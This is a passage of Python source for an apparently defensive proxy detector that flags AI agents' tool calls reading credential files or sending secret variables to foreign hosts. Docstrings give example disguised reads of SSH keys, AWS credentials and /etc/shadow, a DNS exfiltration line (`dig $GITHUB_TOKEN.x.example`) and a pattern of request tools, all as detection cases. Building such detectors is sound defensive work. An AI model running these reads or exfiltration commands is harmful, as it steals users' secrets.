"""Credential theft: a file-read or shell tool call whose arguments name credential material.

The patterns are the `credential_access` rule pack; they run over the arguments of tools that read files
or run commands, never over prose or other tools' arguments (an email that mentions `.env` is not theft).
"""

from __future__ import annotations

import bisect
import functools
import hashlib
import itertools
import json
import posixpath
import re
import shlex
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import NamedTuple
from urllib.parse import unquote

from proxy.detectors.commands import (
    command_strings,
    is_command_tool,
    shell_readings,
    without_stored_heredocs,
    written_by_commands,
)
from proxy.detectors.credential_channel import (
    DEFAULT_TABLE,
    CredentialTable,
    provider_of,
    sent_where_it_belongs,
)
from proxy.detectors.credential_reach import mounted_readings, mounts_in, reached_folders
from proxy.detectors.credential_use import (
    COMMAND_FILE,
    HIDING,
    LEFT_BEHIND,
    NAME_ONLY,
    ShellHistory,
    carried_over,
    command_name,
    command_pieces,
    commands_certain,
    rebinds,
    unread_names,
    unread_settings,
)
from proxy.detectors.request_destinations import (
    PRINTED_TOKEN,
    ROUTE_SETTING,
    SECRET_NAME,
    requests_in,
    words_of,
)
from proxy.detectors.tools import glob_matches, name_matches
from proxy.egress import HostPattern, canonical_host
from proxy.exchange import ToolCall
from proxy.model import Action, Finding
from proxy.scanning.rulepack import Match, Rule, RulePack, ScanBudget, Scanner, scan_timeout_finding

PACK = "credential_access"
# Tools that read files or run commands, by the names agent frameworks and MCP servers give them.
READING_TOOLS = (
    "*shell*", "*bash*", "*terminal*", "*exec*", "*command*", "run_*", "*python*", "*code_interpreter*",
    "*read*", "*cat*", "*file*", "*open*", "*view*", "*fs*", "*head*", "*tail*", "*grep*", "*search_files*",
    # Editors view files as well as change them (Anthropic's text editor: str_replace_based_edit_tool).
    "edit*", "*_edit*", "*_editor*", "str_replace*",
)  # fmt: skip


# Tools that write files: what they write is content, not a path they read.
WRITING_TOOLS = (
    "write*", "*_write*", "create_file*", "*_create_file*", "save*", "*_save*", "append*", "*_append*",
    "edit*", "*_edit*", "*_editor*", "str_replace*", "*apply_patch*", "*patch_file*", "insert*", "*_insert*",
    "put_file*", "*_put_file*", "*update_file*",
)  # fmt: skip
WRITTEN_KEYS = frozenset(
    {"content", "contents", "text", "file_text", "new_str", "old_str", "new_string", "old_string",
     "insert_text", "new_text", "old_text", "newtext", "oldtext", "new_content", "replacement", "body",
     "data", "patch", "diff", "input", "code", "source", "edits"}
)  # fmt: skip
"""Arguments of a writing tool that carry what it writes (Anthropic's editor's ``file_text`` and
``new_str``, the MCP filesystem server's ``content`` and ``edits``, an apply-patch tool's ``input``)."""


_INTERPRETERS = frozenset(
    {"php", "nodejs", "ruby", "irb", "perl", "deno", "bun", "lua", "js", "javascript", "typescript", "julia",
     "tinker", "groovy", "tcl", "rscript"}
)  # fmt: skip
"""Words of a tool's name that say it runs code of an interpreter (``php``, ``eval_ruby``, ``lua_run``):
what it is given may read files and the environment as a shell's commands do. ``node`` is one only as the
whole name, a word of graph tools' names (``add_node``) as well."""


def is_reading_tool(name: str) -> bool:
    """A tool that reads files, runs commands (``commands.is_command_tool``: ``pwsh``, ``zsh``, a sandbox
    or a notebook) or an interpreter's code (``_INTERPRETERS``), whatever else its name says."""
    return (
        name_matches(name, READING_TOOLS)
        or is_command_tool(name)
        or name.lower() == "node"
        or bool(set(re.split(r"[^a-z0-9]+", name.lower())) & _INTERPRETERS)
    )


_REPLACED_KEYS = frozenset({"old_str", "old_string", "old_text", "oldtext"})
"""Arguments of an edit that carry what it replaces: never written."""
_PATH_KEY = re.compile(r"(?i)(?:path|file|file_?name|target|dest|destination|uri)$")
_PATCHED_PATH = re.compile(r"(?m)^(?:\*\*\* (?:Add|Update) File: |\+\+\+ (?:b/)?)(\S[^\n]*?)\s*$")
_SSH_CONFIG = re.compile(r"(?:^|/)(?:\.ssh/config|ssh_config)(?:\.d/[^/]*)?$|/\.ssh/config\.d/")
_SCRIPT = re.compile(
    r"(?i)(?:\.(?:sh|bash|zsh|ksh|fish|command|mk)|(?:^|/)(?:gnumakefile|makefile|justfile|\.envrc"
    r"|taskfile\.ya?ml|package\.json)|/hooks/[^/]+)$"
)
_SHELL_SHEBANG = re.compile(r"\A#!\s*\S*/(?:env\s+)?(?:ba|z|k|da|fi|mk)?sh\b")
_CODE = re.compile(
    r"(?i)\.(?:py|pyw|ipynb|js|mjs|cjs|ts|tsx|jsx|rb|pl|pm|php|lua|go|rs|java|kt|kts|scala|swift|c|cc|cpp|h"
    r"|hpp|cs|r|jl|ex|exs|erl|clj|groovy|dart|ps1|psm1|tcl)$"
)
"""Files of a language other than a shell's: where a call runs one, its text is read as written, never as
commands (a regular expression's ``.*`` is no glob)."""
_WRITTEN_SCRIPT = "script"
"""The command field (``commands.COMMAND_FIELDS``) what a call runs of the conversation is read under."""


def read_arguments(name: str, arguments: str) -> str:
    """The arguments of a call as far as they name what it reads: a writing tool's content where it writes
    what a later command runs without naming it (a shell script, a Makefile, a git hook, ``package.json``,
    an ssh config, whose ``IdentityFile`` lines only name keys it uses), read as commands; what it writes
    elsewhere (code, documents, data) is read where a later call names the file (``ran_files``), and what
    an edit replaces is not written at all."""
    if not name_matches(name, WRITING_TOOLS):
        return arguments
    value = _json_object(arguments)
    if value is None:
        return arguments
    kept = {key: item for key, item in value.items() if key.lower() not in WRITTEN_KEYS}
    written = "\n".join(_written_strings(value))
    paths = written_paths(value, written)
    if written and _runs_unnamed(paths, written):
        ssh_config = any(_SSH_CONFIG.search(path) for path in paths)
        kept[_WRITTEN_SCRIPT] = unread_settings(written) if ssh_config else written
    return json.dumps(kept)


def _runs_unnamed(paths: list[str], written: str) -> bool:
    return bool(_SHELL_SHEBANG.match(written)) or any(
        _SCRIPT.search(path) or _SSH_CONFIG.search(path) for path in paths
    )


def _json_object(arguments: str) -> dict[str, object] | None:
    try:
        value = json.loads(arguments)
    except (ValueError, RecursionError):
        return None
    return value if isinstance(value, dict) else None


def _written_strings(value: object, inside: bool = False) -> Iterator[str]:
    """The strings a writing tool's arguments write: under a key of ``WRITTEN_KEYS``, at any depth (the
    ``newText`` of an MCP edit), never under one of ``_REPLACED_KEYS``."""
    if isinstance(value, str) and inside:
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            lowered = str(key).lower()
            if lowered not in _REPLACED_KEYS:
                yield from _written_strings(item, inside or lowered in WRITTEN_KEYS)
    elif isinstance(value, list):
        for item in value:
            yield from _written_strings(item, inside)


def written_paths(value: dict[str, object], written: str) -> list[str]:
    """The paths a writing tool's call writes: its path arguments (``path``, ``file_path``, ``filePath``,
    ``notebook_path``, ``target_file``, ``uri``) and the files a patch adds or changes."""
    paths = [item for key, item in value.items() if _PATH_KEY.search(key) and isinstance(item, str)]
    return paths + _PATCHED_PATH.findall(written)


def written_files(calls: Iterable[ToolCall]) -> list[tuple[str, str]]:
    """Each file the writing tools' calls write, by its path, with what they write in it, and each a
    command tool's here-document stores (``cat > x.sh <<'EOF'``), which its own call leaves unread."""
    files = []
    for call in calls:
        if is_command_tool(call.name):
            files += [file for text in command_strings(call.arguments) for file in written_by_commands(text)]
        value = _json_object(call.arguments) if name_matches(call.name, WRITING_TOOLS) else None
        if value is not None:
            written = "\n".join(_written_strings(value))
            files += [(path, written) for path in written_paths(value, written) if written]
    return files


def ran_files(arguments: str, written: list[tuple[str, str]]) -> list[tuple[str, str]]:
    """The files written earlier that a call's arguments name by their file's name (``sh
    /tmp/notes.txt``, ``python3 run.py``): what it may run."""
    if not written:
        return []
    named = set(_FILE_NAME.findall(arguments))
    return [
        (path, content)
        for path, content in dict.fromkeys(written)
        if posixpath.basename(path.rstrip("/")) in named
    ]


_FILE_NAME = re.compile(r"[\w.+-]+")


def with_ran(arguments: str, ran: list[tuple[str, str]]) -> str:
    """A call's arguments with what the ``ran`` files hold, read as a command field of its."""
    return json.dumps(
        {"call": _json_value(arguments), _WRITTEN_SCRIPT: "\n".join(content for _, content in ran)}
    )


def credential_reads(
    calls: Iterable[ToolCall],
    scanner: Scanner,
    budget: ScanBudget,
    earlier: Sequence[ToolCall] | None = (),
    credentials: CredentialTable = DEFAULT_TABLE,
) -> list[Finding]:
    """One finding per credential rule matched in a reading tool's arguments (or out of time on them:
    ``SCAN_TIMEOUT_RULE``); where the policy enforces ``credential_theft`` the call is withheld (an MCP
    ``tools/call`` refused), elsewhere recorded. The scans are charged to ``budget``.

    ``earlier`` are the calls of the conversation before these (its history): with the other calls of the
    list, they are what a shell that lives on between calls has run, and the files a call may run. Where
    one of them may have changed what a command's name runs (``left_behind``), no file a call names is
    taken for one it only uses (``ssh -i``, ``chmod 600 ~/.ssh/*``): every word naming one is a read.
    None: what ran before is not known (the provider keeps the conversation, an MCP server its shell),
    and may have. ``credentials``: which hosts take which service's credentials, where a secret variable a
    call sends goes where it belongs (``sent_where_it_belongs``)."""
    calls = list(calls)
    findings = []
    unknown = earlier is None
    earlier = earlier or ()
    conversation = [*earlier, *calls]
    history = ShellHistory([_command_text(other) for other in conversation])
    files = [written_files([other]) for other in conversation]
    # Each file by its name, with the call that wrote it: a call's reading looks up the names it uses.
    by_name: dict[str, list[tuple[int, tuple[str, str]]]] = {}
    for index, files_of in enumerate(files):
        for file in files_of:
            by_name.setdefault(posixpath.basename(file[0].rstrip("/")), []).append((index, file))
    routes_before = _RoutesBefore(conversation, budget, unknown=unknown)
    # What each call mounted stays for the calls after it: a container it started, a bind.
    mounts = [mounts_in(command) for command in history.commands]
    for index, call in enumerate(calls):
        if not is_reading_tool(call.name):
            continue
        at = len(earlier) + index
        others = conversation[:at] + conversation[at + 1 :]
        named = dict.fromkeys(_FILE_NAME.findall(call.arguments))
        found = sorted(found for name in named for found in by_name.get(name, ()) if found[0] != at)
        ran = list(dict.fromkeys(file for _, file in found))
        arguments = _with_conversation(read_arguments(call.name, call.arguments), history, at, ran)
        # What ran before is read where first asked (a call that names no credential file or sends no
        # secret never asks) and once.
        rebound = functools.cache(
            functools.partial(_left_before, unknown, others, budget, call.arguments, files, at)
        )
        before = functools.cache(functools.partial(routes_before, at))
        reading = functools.partial(
            _rules_read, call.name, scanner=scanner, budget=budget, rebound=rebound, before=before,
            credentials=credentials, mounted=[mount for made in mounts[:at] for mount in made],
        )  # fmt: skip
        rules, timed_out = reading(arguments, blank=False)
        # A secret sent is no file the call only uses: where it is all that was found, nothing is read
        # again, and where more was, where it goes is not.
        blanked = (
            _blanked_on(budget, arguments, call.name)
            if rules.keys() - {SENT_RULE} and not timed_out and not rebound()
            else arguments
        )
        if blanked is not arguments and not budget.spent_for(len(blanked)):
            # A credential file the call only uses (``ssh -i``, ``ssh-add``, ``chmod 600``) is no read:
            # its word is blanked out of the arguments, and out of each reading (a key a variable names,
            # ``K=~/.ssh/k; ssh -i $K``, is used where the reading puts it). Read again only where the
            # words as written name one, so a call that names none costs what it did; where the budget
            # leaves no time to blank or read them again, what was found stands.
            sent = {SENT_RULE: rules[SENT_RULE]} if SENT_RULE in rules else {}
            rules, timed_out = reading(blanked, blank=True, sent_known=bool(sent))
            rules |= sent
        code = "\n".join(content for path, content in ran if _CODE.search(path))
        if code:
            scan = scanner.scan(code, budget)
            rules |= {match.rule.id: match.rule for match in scan.found}
            timed_out += tuple(scan.timed_out)
        findings += read_findings(call, rules.values(), [scanner.rules_by_id[rule] for rule in timed_out])
    return findings


def read_findings(call: ToolCall, broken: Iterable[Rule], timed_out: Iterable[Rule]) -> list[Finding]:
    """The findings of a call that reads what ``broken`` look for, or may (``timed_out``): a rule out of
    time may have read a credential path there, and the call is withheld all the same."""
    findings = [
        scan_timeout_finding(rule, call.where, action=Action.WITHHOLD, tool=call.name) for rule in timed_out
    ]
    findings += [
        Finding(
            threat=rule.threat,
            rule=rule.id,
            signal=f"{call.name}: {rule.description}",
            severity=rule.severity,
            action=Action.WITHHOLD,
            where=call.where,
            owasp=rule.owasp,
            extra={"tool": call.name},
        )
        for rule in broken
    ]
    return findings


def _blanked_on(budget: ScanBudget, arguments: str, name: str) -> str:
    """``unread_arguments`` charged to the budget, with the arguments' share: the arguments as they are
    where it is spent first."""
    budget.allow(len(arguments))
    with _Charged(budget) as charged:
        try:
            return unread_arguments(arguments, name, charged.tick)
        except _OutOfTime:
            return arguments


def _with_conversation(arguments: str, history: ShellHistory, at: int, ran: list[tuple[str, str]]) -> str:
    """A call's arguments as they are read with what the conversation gives them: what the commands of its
    other calls than ``at`` set that it reads in a shell that lives on (``carried_over``), read before its
    own strings, and what the files it runs that other calls wrote hold, but code (``_CODE``, read as
    written apart)."""
    own = "\n".join(_strings(_json_value(arguments)))
    carried = carried_over(own, history, at)
    scripts = "\n".join(content for path, content in ran if not _CODE.search(path))
    if not carried and not scripts:
        return arguments
    script = "\n".join(text for text in (carried, own if carried else "", scripts) if text)
    return json.dumps({"call": _json_value(arguments), _WRITTEN_SCRIPT: script})


def _command_text(call: ToolCall) -> str:
    """The strings of a call that runs commands, one a line: "" for one that writes files."""
    if name_matches(call.name, WRITING_TOOLS) or not is_reading_tool(call.name):
        return ""
    return "\n".join(_strings(_json_value(call.arguments)))


def _json_value(arguments: str) -> object:
    try:
        return json.loads(arguments)
    except (ValueError, RecursionError):
        return arguments


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _left_before(
    unknown: bool,
    calls: list[ToolCall],
    budget: ScanBudget,
    running: str,
    files: list[list[tuple[str, str]]],
    at: int,
) -> bool:
    """``left_behind`` of a call's conversation (``files``: what each of its calls wrote, the call ``at``
    among them): True where what ran before it is not known."""
    if unknown:
        return True
    written = [file for index, files_of in enumerate(files) if index != at for file in files_of]
    return left_behind(calls, budget, running, written)


class _Routes(NamedTuple):
    """What calls left that changes where a later request goes or whose secret it sends."""

    rerouted: bool
    """Whether they may send a later request elsewhere (``ROUTE_SETTING``: a proxy exported,
    ``~/.curlrc`` or ``/etc/hosts`` written, ``curl`` made an alias or a function), however quoted."""
    bound: tuple[tuple[str, str], ...] = ()
    """The variables they set to a CLI's token (``_BOUND_TOKEN``), each with the CLI."""


class _RoutesBefore:
    """``_Routes`` of the calls of a conversation before each of its calls, read in its order as far as
    first asked and once: a call asking reads only those the calls asking before it did not, so a
    conversation costs its length, not its length times its calls. Rerouted where what ran before is not
    known, or where the budget leaves no time to read what is not read yet."""

    def __init__(self, conversation: Sequence[ToolCall], budget: ScanBudget, *, unknown: bool) -> None:
        self._conversation = conversation
        self._budget = budget
        self._unknown = unknown
        self._read = 0
        self._rerouted_at: int | None = None
        self._bound: list[tuple[int, tuple[str, str]]] = []

    def __call__(self, at: int) -> _Routes:
        unread = self._conversation[self._read : at]
        if self._unknown or (unread and self._budget.spent_for(sum(len(call.arguments) for call in unread))):
            return _Routes(self._unknown or at > 0)
        with self._budget.metered():
            for index, call in enumerate(unread, self._read):
                routes = _memoized(_routes, call.name, call.arguments, _call_routes)
                if routes.rerouted and self._rerouted_at is None:
                    self._rerouted_at = index
                self._bound += [(index, bound) for bound in routes.bound]
        self._read = max(self._read, at)
        bound = self._bound[: bisect.bisect_left(self._bound, at, key=lambda made: made[0])]
        return _Routes(
            self._rerouted_at is not None and self._rerouted_at < at, tuple(token for _, token in bound)
        )


def _call_routes(name: str, arguments: str) -> _Routes:
    del name
    text = "\n".join(_strings(_json_value(arguments)))
    return _Routes(
        bool(ROUTE_SETTING.search(text) or ROUTE_SETTING.search(HIDING.sub("", text))),
        tuple((found[1], found[2].lower()) for found in _BOUND_TOKEN.finditer(text)),
    )


def left_behind(
    calls: Sequence[ToolCall],
    budget: ScanBudget,
    running: str = "",
    written: list[tuple[str, str]] | None = None,
) -> bool:
    """Whether any of the calls may have left behind what changes what a later command's name runs or
    where what it is given goes (``credential_use.rebinds``): a command tool's commands that do, a file
    written where the key's users, the loader or a shell read settings or look a command up, a script
    written that does, or a file written that one of the calls (or ``running``, the arguments of the call
    judged) then runs: code always, as what it does is not read here. Where the budget leaves no time to
    read them, they may have. ``written``: the calls' ``written_files``, where known already."""
    if not calls:
        return False
    if budget.spent_for(sum(len(call.arguments) for call in calls)):
        return True
    with budget.metered():
        if any(_memoized(_left, call.name, call.arguments, _call_leaves) for call in calls):
            return True
        texts = "\n".join(
            (running, *(call.arguments for call in calls if not name_matches(call.name, WRITING_TOOLS)))
        )
        files = written_files(calls) if written is None else written
        return any(_CODE.search(path) or rebinds(content) for path, content in ran_files(texts, files))


_KEPT_PER_CALL = 1024
_left: dict[tuple[str, bytes], bool] = {}
_routes: dict[tuple[str, bytes], _Routes] = {}
"""``_call_leaves`` and ``_call_routes`` of the calls last read, by name and the digest of the arguments: a
conversation's history comes back with each of its requests, and its calls (a file written whole among
them) are kept no longer than they are sent."""


def _memoized[T](
    kept: dict[tuple[str, bytes], T], name: str, arguments: str, answer: Callable[[str, str], T]
) -> T:
    """``answer`` of one call, from ``kept`` where it was worked out before."""
    key = (name, hashlib.sha256(arguments.encode("utf-8", "surrogatepass")).digest())
    found = kept.pop(key, None)
    if found is None:
        found = answer(name, arguments)
        while len(kept) >= _KEPT_PER_CALL:
            del kept[next(iter(kept))]
    kept[key] = found
    return found


def _call_leaves(name: str, arguments: str) -> bool:
    if name_matches(name, WRITING_TOOLS):
        value = _json_object(arguments)
        if value is None:
            return rebinds(arguments)
        written = "\n".join(_written_strings(value))
        paths = written_paths(value, written)
        if any(COMMAND_FILE.search(path) or LEFT_BEHIND.search(path) for path in paths):
            return True
        return bool(written) and _runs_unnamed(paths, written) and rebinds(written)
    commands = shell_readings(name, arguments)
    return bool(commands) and rebinds(f"{arguments}\n{commands}")


def _rules_read(
    name: str,
    arguments: str,
    scanner: Scanner,
    budget: ScanBudget,
    *,
    blank: bool,
    rebound: Callable[[], bool],
    before: Callable[[], _Routes],
    credentials: CredentialTable,
    mounted: Sequence[tuple[str, str]] = (),
    sent_known: bool = False,
) -> tuple[dict[str, Rule], tuple[str, ...]]:
    """The credential rules a call's arguments match, and those out of time on them. The commands it runs
    are read with their disguises undone, their expansions also taken for nothing, paths as they resolve
    and braces expanded (``cat ~/.a''ws/credentials``, ``cat ~/.ss$(true)h/id_rsa``, ``/etc//shadow``,
    ``cat ~/.{aws,x}/credentials``); with ``blank``, the words of the files they only use blanked out of
    those readings. A glob is no read where a command only lists or changes the mode of what it names,
    unless ``rebound`` says that command may be another. A path under a mount's target, the call's own or
    one of those ``mounted`` before it, is read as the host's path it reaches. With ``sent_known``,
    where the call sends a secret is not read again.

    All of it is charged to the budget as the scan is, and stops where the budget is spent: what was found
    stands, and every pack is out of time for the call."""
    if budget.spent_for(len(arguments)):
        return {}, scanner.scan(arguments, budget).timed_out
    # Reading the arguments as commands, code and paths is work of its own beside the scan: it adds the
    # arguments' share of the budget as a text scanned does (``ScanBudget.allow``).
    budget.allow(len(arguments))
    rules: dict[str, Rule] = {}
    with _Charged(budget) as charged:
        try:
            return _charged_rules(
                name, arguments, scanner, charged, rules, blank=blank, rebound=rebound, before=before,
                credentials=credentials, mounted=mounted, sent_known=sent_known,
            )  # fmt: skip
        except _OutOfTime:
            return rules, scanner.scan_metered(arguments, charged.meter).timed_out


def _charged_rules(
    name: str,
    arguments: str,
    scanner: Scanner,
    charged: _Charged,
    rules: dict[str, Rule],
    *,
    blank: bool,
    rebound: Callable[[], bool],
    before: Callable[[], _Routes],
    credentials: CredentialTable,
    mounted: Sequence[tuple[str, str]],
    sent_known: bool,
) -> tuple[dict[str, Rule], tuple[str, ...]]:
    """``_rules_read``, its rules found put in ``rules`` as they are; ``_OutOfTime`` where the budget is
    spent before the end."""
    tick = charged.tick
    if is_command_tool(name):
        # What a here-document only stores or prints (``cat > notes.md <<'EOF'``) is data the command
        # writes, as a writing tool's content is: it names no file the command reads.
        arguments = _mapped_json_strings(arguments, without_stored_heredocs)
    tick()
    commands = shell_readings(name, arguments)
    tick()
    # Where the readings hold the arguments' strings, a request in their JSON is read there: the quotes
    # JSON escapes around a header hide it from the rule, which reads it as data sent.
    unescaped = len(arguments) if commands and _json_object(arguments) is not None else 0
    commands = unread_names(commands, tick) if blank else commands
    # Code is respelled as written, its quotes kept: a reading with them undone makes a literal key a
    # name (``e["X"]`` as ``e[X]``).
    written = "\n".join(_strings(_json_value(arguments)))
    code = respellings(written)
    tick()
    respelled = "\n".join(text for text in (code, respellings(commands)) if text)
    tick()
    readings = [commands, respelled, emptied(commands), mounted_readings(commands, tick, mounted)]
    tick()
    readings.append(normal_paths(f"{arguments}\n{commands}\n{respelled}"))
    tick()
    readings.append(environment_aliases(f"{written}\n{code}", tick))
    commands = "\n".join(readings)
    tick()
    commands += "\n" + "\n".join(expanded_words(f"{arguments}\n{commands}"))
    read = f"{arguments}\n{commands}"
    tick()
    charged.budget.allow(len(read))
    scan = scanner.scan_metered(read, charged.meter)
    sent = [match for match in scan.found if match.rule.id == SENT_RULE and match.start >= unescaped]
    rules |= {match.rule.id: match.rule for match in scan.found if match.rule.id != SENT_RULE}
    sent_rule = None if sent_known else scanner.rules_by_id.get(SENT_RULE)
    timed_out = tuple(scan.timed_out)
    handing = STORE_RULE in rules and all(
        _TOKEN_WORDS.search(read[match.start : match.end])
        for match in scan.found
        if match.rule.id == STORE_RULE
    )
    if sent_rule is not None and SENT_RULE not in timed_out and charged.meter.left() <= 0:
        # A spent budget reads no further: where a send goes is not known, and the call is withheld.
        if sent or _SENDING.search(read):
            timed_out += (SENT_RULE,)
    elif (sent_rule is not None and SENT_RULE not in timed_out) or handing:
        # Where its requests go is read on the budget as the scan was: out of time, the rule is, and the
        # call is withheld all the same.
        texts = [*_strings(_json_value(arguments)), *([code] if code else [])]
        routes = charged.apart(before)
        try:
            sends = _Sends(name, texts, commands, tick, credentials, routes)
            if sent_rule is not None and (
                any(not sends.goes_where_it_belongs(read, match) for match in sent) or sends.elsewhere()
            ):
                rules[SENT_RULE] = sent_rule
            if handing and sends.handed_tokens(texts):
                # A token a CLI prints, handed straight to its own service, is no read of it.
                del rules[STORE_RULE]
        except _OutOfTime:
            timed_out += (SENT_RULE,) if sent_rule is not None else ()
    tick()

    def rebound_apart() -> bool:
        return charged.apart(rebound)

    globbing = "\n".join(globbing_commands(commands, rebound_apart, tick))
    globbing += "\n" + "\n".join((*expanded_words(globbing), *listed_folders(commands, rebound_apart, tick)))
    tick()
    rules |= {rule.id: rule for rule in globbed_rules(globbing, scanner.rules) if rule.id not in rules}
    tick()
    searched = searched_rules(globbing, scanner.rules, listings=commands)
    rules |= {rule.id: rule for rule in searched if rule.id not in rules}
    reached = reached_folders([*_strings(_json_value(arguments)), *commands.splitlines()], tick)
    rules |= {rule.id: rule for rule in folder_rules(reached, scanner.rules) if rule.id not in rules}
    return rules, timed_out


class _Charged:
    """Work charged to a budget as it goes, out of time (``_OutOfTime``) at the ``tick`` after the budget
    is spent. Work that charges the budget itself (what the calls before left, read once for the
    conversation and kept) runs ``apart``, between two meters, so that none of it is charged twice."""

    def __init__(self, budget: ScanBudget) -> None:
        self.budget = budget
        self.meter = budget.metered()

    def __enter__(self) -> _Charged:
        return self

    def __exit__(self, *raised: object) -> None:
        self.budget.left -= self.meter.settle()

    def tick(self) -> None:
        if self.meter.left() <= 0:
            raise _OutOfTime

    def apart[T](self, work: Callable[[], T]) -> T:
        self.budget.left -= self.meter.settle()
        try:
            return work()
        finally:
            self.meter = self.budget.metered()


SENT_RULE = "secret-variable-sent"
STORE_RULE = "secret-store-read"
_TRAILING_NAME = re.compile(r"[A-Za-z_]\w*$")
_FIELD = re.compile(r"""([A-Za-z_][\w-]*)["']?[ \t]*[=:][ \t]*["'({\[]?[ \t]*(?:\$env:|[^\s=:&,]){0,40}$""")
_USER_INFO = re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/@\"']*$")
_SENDING = re.compile(
    r"(?i)\b(?:curl|wget2?|https?|xh|xhs|invoke-webrequest|invoke-restmethod|iwr|irm|requests|httpx|aiohttp"
    r"|urllib3?|urlopen|fetch|axios|got|superagent|dig|nslookup|host|ping|drill|gh|git)\b"
)
"""A command or a call of code that may send a request: where a secret variable it names goes is read."""
_BOUND_TOKEN = re.compile(
    r"(?:^|[\s;&|({])(?:(?:export|local|readonly|declare|typeset)[ \t]+(?:-\w+[ \t]+)*)?([A-Za-z_]\w*)=[\"']?"
    + PRINTED_TOKEN.pattern.removeprefix("(?i)")
)
"""A variable set to a CLI's token (``export TOKEN=$(gcloud auth print-access-token)``): it holds a secret
of the CLI's service whatever its name."""
_TOKEN_WORDS = re.compile(
    r"(?i)\b(?:print-(?:access|identity)-token|get-access-token|gh[ \t]+auth[ \t]+token)\b"
)
_PIPED_TOKEN = re.compile(
    r"(?i)\b(gcloud|az|gh)\b[^|\n;&()`]{0,300}?\b(?:print-access-token|get-access-token|auth[ \t]+token)\b"
    r"[^|\n;&()`]{0,300}\|[ \t]*(?:docker|podman|buildah|skopeo|helm[ \t]+registry|oras)[ \t]+login\b"
    r"([^|\n;&()`]{0,300})"
)
"""A CLI's token piped straight into a registry's login (``gcloud auth print-access-token | docker login
-u oauth2accesstoken --password-stdin https://gcr.io``)."""
_LOGIN_VALUED = frozenset({"-u", "--username", "--authfile", "--config", "--cert-dir"})
CLI_HOSTS = {
    "gcloud": ("*.googleapis.com", "gcr.io", "*.gcr.io", "*.pkg.dev"),
    "az": (
        "management.azure.com", "graph.microsoft.com", "*.vault.azure.net", "*.azurecr.io",
        "*.core.windows.net", "dev.azure.com",
    ),
    "gh": ("api.github.com", "github.com", "*.github.com", "*.githubusercontent.com", "ghcr.io"),
}  # fmt: skip
"""The hosts of the service whose token each CLI prints: where the token goes as it is used (never a
host a customer names, ``*.run.app`` or ``*.cloudapp.azure.com``)."""
_CLI_PATTERNS = {
    cli: tuple(HostPattern.parse(host, None) for host in hosts) for cli, hosts in CLI_HOSTS.items()
}


class _OutOfTime(Exception):
    """The budget a reading of where requests go is charged to is spent."""


class _Sends:
    """The requests of a call's texts (``request_destinations.requests_in``), read on a budget's
    ``tick`` (``_Charged``): where the call, or one before it in the conversation, may send requests
    elsewhere (``rerouted``), none of their destinations is known."""

    def __init__(
        self,
        name: str,
        texts: list[str],
        readings: str,
        tick: Callable[[], None],
        credentials: CredentialTable,
        before: _Routes,
    ) -> None:
        self._tick = tick
        self.credentials = credentials
        code = bool(set(re.split(r"[^a-z0-9]+", name.lower())) & _LANGUAGES)
        rerouted = before.rerouted
        for text in (*texts, readings):
            tick()
            rerouted = rerouted or ROUTE_SETTING.search(text) is not None
        self.bound = dict(before.bound) | {
            found[1]: found[2].lower() for text in (*texts, readings) for found in _BOUND_TOKEN.finditer(text)
        }
        self.own = [
            [
                request.unknown() if rerouted else request
                for request in requests_in(text, self._tick, code=code)
            ]
            for text in texts
        ]
        self.read = [request for requests in self.own for request in requests]
        self.read += [
            request.unknown() if rerouted else request
            for request in requests_in(readings, self._tick, lines=True)
        ]

    def belongs(self, name: str, hosts: tuple[str, ...] | None, field: str, *, header: bool) -> bool:
        """Whether a variable (or a CLI's token, ``$(gcloud)``) sent to ``hosts`` goes to its service
        alone (``sent_where_it_belongs``)."""
        cli = self.bound.get(name) or (name[2:-1] if name.startswith("$(") else None)
        if cli is not None:
            return bool(hosts) and all(
                any(pattern.names(canonical_host(host)) for pattern in _CLI_PATTERNS[cli])
                for host in hosts or ()
            )
        return sent_where_it_belongs(name, hosts or (), field, self.credentials, header=header)

    def of_service(self, name: str) -> bool:
        """Whether a variable holds a secret of a service its name or its value says."""
        return (
            name.startswith("$(")
            or name in self.bound
            or (bool(SECRET_NAME.search(name)) and provider_of(name, self.credentials) is not None)
        )

    def elsewhere(self) -> bool:
        """Whether a request sends a service's secret (``of_service``) to a host that is not that
        service's, or where its hosts are not known for certain: a header hands a secret over as well as
        data does; or looks up a name a secret variable is part of (``dig $GITHUB_TOKEN.x.example``)."""
        for request in self.read:
            for name in request.names:
                if request.lookup and (SECRET_NAME.search(name) or self.of_service(name)):
                    return True
                if self.of_service(name) and not self.belongs(name, request.hosts, "", header=True):
                    return True
        return False

    def goes_where_it_belongs(self, read: str, match: Match) -> bool:
        """Whether a match of ``SENT_RULE`` sends its variable to where it belongs: its field (``-d
        client_secret=$CLIENT_SECRET``) or a URL's user-info (``https://x:$GITHUB_TOKEN@github.com``) to its
        own service, by every request that names it. A match in a reading that undid a disguise is never."""
        if match.disguise:
            return False
        found = read[match.start : match.end]
        variable = _TRAILING_NAME.search(found)
        if variable is None:
            return False
        name = variable[0]
        before = found[: variable.start()].rstrip("${")
        field = _FIELD.search(before)
        user_info = _USER_INFO.search(before) is not None
        requests = [request for request in self.read if name in request.names]
        return bool(requests) and all(
            not request.lookup
            and self.belongs(name, request.hosts, field[1] if field else "", header=user_info)
            for request in requests
        )

    def handed_tokens(self, texts: list[str]) -> bool:
        """Whether each token a CLI prints in the call's texts is handed straight to its own service: set
        to a variable (``TOKEN=$(gcloud auth print-access-token)``), substituted into requests to the
        service's hosts alone, or piped into its registry's login; none hidden by a quote or an expansion
        from this reading."""
        for text, requests in zip(texts, self.own, strict=True):
            substituted = [
                request for request in requests if any(name.startswith("$(") for name in request.names)
            ]
            if any(
                not self.belongs(name, request.hosts, "", header=True)
                for request in substituted
                for name in request.names
                if name.startswith("$(")
            ):
                return False
            handed = (
                len(_BOUND_TOKEN.findall(text))
                + sum(self._piped_to_its_registry(found) for found in _PIPED_TOKEN.finditer(text))
                + sum(len(PRINTED_TOKEN.findall(request.text)) for request in substituted)
            )
            if len(_TOKEN_WORDS.findall(HIDING.sub("", text))) > handed:
                return False
        return True

    def _piped_to_its_registry(self, found: re.Match[str]) -> bool:
        words = [value for _, value in words_of(found[2])]
        if "--password-stdin" not in words:
            return False
        operands = [
            word
            for before, word in zip(["", *words], words, strict=False)
